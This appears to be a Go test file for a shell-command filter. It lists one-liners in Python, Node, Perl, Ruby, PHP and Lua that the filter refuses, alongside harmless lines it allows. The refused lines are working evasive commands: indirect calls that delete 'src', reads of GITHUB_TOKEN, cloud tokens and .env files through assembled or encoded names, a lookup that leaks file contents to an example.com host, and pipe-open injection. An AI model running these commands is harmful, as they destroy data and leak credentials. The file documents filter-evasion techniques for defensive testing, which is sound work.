package shell_test

import "testing"

// TestFunctionsReachedAnotherWay: a function is called by what every function has, through other modules, by a name
// that is put together.
func TestFunctionsReachedAnotherWay(t *testing.T) {
	refusedLines(t, `
		python3 -c 'import os;os.system.__call__("rm -rf src")'
		python3 -c 'import shutil;f=shutil.rmtree.__call__;f("src")'
		python3 -c 'import shutil;getattr(shutil.rmtree,"__call__")("src")'
		python3 -c 'import shutil;shutil.rmtree.__get__("src")()'
		python3 -c 'import operator,shutil;operator.call(shutil.rmtree,"src")'
		python3 -c 'import types,shutil;types.MethodType(shutil.rmtree,"src")()'
		python3 -c 'import functools,os;functools.partial(os.system,"rm -rf src").__call__()'
		python3 -c 'import functools,os;functools.partial(os.system).func("rm -rf src")'
		python3 -c 'import os;print(os.environ.get.__call__("GITHUB_TOKEN"))'
		python3 -c 'import tempfile;print(tempfile._os.environ["GITHUB_TOKEN"])'
		python3 -c 'import re;re.enum.sys.modules["os"].remove("notes.txt")'
		python3 -c 'import tempfile;tempfile.TemporaryDirectory().__class__._rmtree("data")'
		python3 -c 'import ssl;ssl.get_server_certificate((open("notes.txt").read()+".example.com",443))'
		python3 -c 'import setuptools.sandbox as s;s.run_setup("../x/conftest.py",[])'
		python3 -c 'import trace;trace.Trace().run(open("t.py").read())'
		python3 -c 'import argparse;p=argparse.ArgumentParser(fromfile_prefix_chars="@");p.parse_args(["@.env"])'
		python3 -c 'import google.auth;c,_=google.auth.default();print(c.token)'
		node -e 'require("fs").rmSync["call"](0,"src",{recursive:true})'
		node -e 'const r=require("fs").rmSync;r["apply"](0,["src",{recursive:true}])'
		node -e 'Function.prototype.call.call(require("fs").rmSync,0,"src")'
		node -e 'require("child_process").spawn("ls",{shell:"/opt/x/evil.sh"})'
		node -e 'require("child_process").execSync("ls",{shell:"/opt/x/evil.sh"})'
		node -p 'require("nconf").env().get()'
		node -p 'require("convict")({a:{env:"GITHUB_TOKEN",default:""}}).get("a")'
		perl -e 'print %{$::{"EN"."V"}}'
		perl -e 'print %{"main::"}{ENV}'
		perl -e '<>' 'rm -rf src|'
		perl -e 'eval join"",<STDIN>' < t.txt
		perl -e 'print *ENV{HASH}{GITHUB_TOKEN}'
		perl -e 'push @ARGV,"rm -rf src|";while(<>){}'
		perl -e '$ARGV[0]="rm -rf src|";while(<>){}'
		python3 -c 'import os;print(open(os.environ.get("F",".e"+"nv")).read())'
		python3 -c 'import zipfile;zipfile.main(["-e","a.zip","."])'
		ruby -e 'method(:system) === "rm -rf src"'
		ruby -e '(method(:system) << ->(x){x}).call("rm -rf src")'
		ruby -e 'method(:system).curry["rm -rf src"]'
		ruby -e 'method(:system)["rm -rf src"]'
		ruby -e ':system.to_proc.call(self,"rm -rf src")'
		ruby -e 'Kernel.class_eval{alias_method :x,:system};x "rm -rf src"'
		ruby -e 'require "bundler";Bundler.unbundled_system("rm -rf src")'`)
	runningLines(t, `
		python3 -c 'import functools;print(functools.partial(int,base=2)("10"))'
		python3 -c 'import sys;print(sys.modules["json"])'
		python3 -c 'help(len)'
		python3 -c 'import timeit;print(timeit.timeit("x*2", setup="x=3"))'
		python3 -c 'import argparse;p=argparse.ArgumentParser();p.add_argument("x");print(p.parse_args(["a"]))'
		python3 -c 'from pathlib import Path;print(Path("src/a.py").with_suffix(".txt"))'
		node -e 'require("child_process").execSync("ls",{shell:true})'
		node -e 'console.log(Array.prototype.slice.call([1,2],1))'
		perl -e 'print *STDOUT, 3 *4'
		perl -e 'push @a,"x|y"; print @a'
		ruby -e '%w[a b].each(&method(:puts))'
		ruby -e 'm=method(:puts);m.call("x")'
		perl -e 'while(<STDIN>){print}' < README.md`)
}

// TestNamesMadeOfWhatIsGiven: the name of a secret is put together from arguments and variables of the line.
func TestNamesMadeOfWhatIsGiven(t *testing.T) {
	refusedLines(t, `
		python3 -c 'import sys;print(open(sys.argv[1]+sys.argv[2]).read())' .e nv
		python3 -c 'import sys;print(open(sys.argv[1][::-1]).read())' vne.
		python3 -c 'import sys;a,b=sys.argv[1:];print(open(a+b).read())' .e nv
		python3 -c 'import sys;print(open("".join(sys.argv[1:])).read())' .e nv
		python3 -c 'from sys import argv as v;print(open(f"{v[1]}{v[2]}").read())' .e nv
		python3 -c 'import sys;print(open(sys.argv[-1]+sys.argv[-2]).read())' nv .e
		python3 -c 'import sys;print(open("." + sys.argv[1]).read())' env
		python3 -c 'import sys,base64;print(open(base64.b64decode(sys.argv[1])).read())' LmVudg==
		python3 -c 'import sys;print(open(sys.argv[1].replace("X","")).read())' .Xenv
		python3 - .e nv <<< 'import sys;print(open(sys.argv[1]+sys.argv[2]).read())'
		python3 -c 'print(open("".join(input().split())).read())' <<< '.e nv'
		F=.env python3 -c 'import os;print(open(os.environ["F"]).read())'
		A=.e B=nv python3 -c 'import os;print(open(os.getenv("A")+os.getenv("B")).read())'
		export F=.env; python3 -c 'import os;print(open(os.environ["F"]).read())'
		node -e 'console.log(fs.readFileSync(process.argv[1]+process.argv[2],"utf8"))' .e nv
		node -e 'const [,a,b]=process.argv;console.log(require("fs").readFileSync(a+b,"utf8"))' .e nv
		node -e 'console.log(require("fs").readFileSync(process.argv.slice(1).join(""),"utf8"))' .e nv
		F=.env node -p 'fs.readFileSync(process.env.F,"utf8")'
		ruby -e 'puts File.read(ARGV[0]+ARGV[1])' .e nv
		ruby -e 'puts File.read(ARGV.shift+ARGV.shift)' .e nv
		F=.env ruby -e 'puts File.read(ENV["F"])'
		perl -e 'open F,"<",$ARGV[0].$ARGV[1];print <F>' .e nv
		perl -e '$a=shift;$b=shift;open F,"<","$a$b";print <F>' .e nv
		F=.env perl -e 'open F,"<",$ENV{F};print <F>'
		lua -e 'print(io.open(arg[1]..arg[2]):read("a"))' x .e nv
		php -r 'print_r(file($argv[1].$argv[2]));' .e nv`)
	runningLines(t, `
		python3 -c 'import sys;print(open(sys.argv[1]).read())' README.md
		python3 -c 'import sys,json;print(json.load(open(sys.argv[1]+".json")))' package
		python3 -c 'import sys;print(open(sys.argv[1].rstrip("/") + "/a.txt").read())' docs/
		DEBUG=1 python3 -c 'import os;print(os.environ.get("DEBUG"))'
		node -e 'console.log(require("fs").readFileSync(process.argv[1],"utf8").length)' README.md
		node -e 'const [,,a]=process.argv;console.log(a)' x y
		ruby -e 'puts ARGV[0]' x
		perl -ne 'print if /x/' README.md`)
}

// TestPHPsGlobals: the environment is among the variables that $GLOBALS and names made as the code runs lead to.
func TestPHPsGlobals(t *testing.T) {
	refusedLines(t, `
		php -r 'print_r($GLOBALS);'
		php -r 'print_r($GLOBALS["_SERVER"]);'
		php -r 'foreach($GLOBALS as $k=>$v) echo json_encode($v);'
		php -r '$x="_SER"."VER"; print_r($$x);'
		php -r 'print_r(${"_SERVER"});'`)
	runningLines(t, `
		php -r '$GLOBALS["n"]=3; echo $GLOBALS["n"];'
		php -r '$n=3; echo "a $n {$n} ${n}";'`)
}

// TestTiedFilesThatAreEmptied: a flag of a tie that is computed may be the one that empties the file.
func TestTiedFilesThatAreEmptied(t *testing.T) {
	refusedLines(t, `
		perl -MDB_File -e 'tie %h,"DB_File","draft.txt",512|2'`)
	runningLines(t, `
		perl -MDB_File -MFcntl -e 'tie %h,"DB_File","x.db",O_RDWR|O_CREAT'`)
}
